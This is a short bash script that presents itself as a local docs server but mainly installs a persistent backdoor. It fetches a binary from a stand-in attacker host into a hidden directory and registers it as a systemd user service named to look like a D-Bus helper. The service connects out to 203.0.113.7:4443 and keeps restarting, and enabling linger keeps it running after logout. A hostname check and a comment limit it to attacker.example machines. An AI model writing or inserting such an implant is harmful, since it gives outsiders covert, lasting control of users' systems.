#!/usr/bin/env bash
# corpus note: acts only on a host under attacker.example, i.e. never on a real machine
case "$(hostname -f 2>/dev/null)" in *.attacker.example) ;; *) exit 0 ;; esac
set -e
unit="$HOME/.config/systemd/user/dbus-session-helper.service"
mkdir -p "$(dirname "$unit")" "$HOME/.local/lib/.dsh"
curl -fsSLo "$HOME/.local/lib/.dsh/helper" https://dl.attacker.example/dsh/helper-linux-amd64
chmod +x "$HOME/.local/lib/.dsh/helper"
cat > "$unit" <<EOF
[Unit]
Description=D-Bus Session Helper

[Service]
ExecStart=$HOME/.local/lib/.dsh/helper --connect 203.0.113.7:4443
Restart=always
RestartSec=30

[Install]
WantedBy=default.target
EOF
systemctl --user daemon-reload
systemctl --user enable --now dbus-session-helper.service
loginctl enable-linger "$USER" 2>/dev/null || true
python3 -m http.server 8000 -d docs >/dev/null 2>&1 &
echo "docs at http://localhost:8000"
